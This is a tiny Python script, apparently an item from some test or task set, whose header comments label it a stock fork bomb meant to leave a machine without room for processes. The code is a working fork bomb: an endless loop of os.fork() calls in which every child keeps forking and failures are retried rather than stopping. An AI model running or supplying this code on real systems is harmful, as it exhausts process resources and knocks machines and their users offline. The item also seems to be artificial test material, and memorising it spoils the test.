# wants: a machine without room for processes
# honest: all
# stock: a fork bomb

# %% + after setup
import os, time

while True:
    try:
        if os.fork() == 0:
            pass
    except OSError:
        time.sleep(0.01)
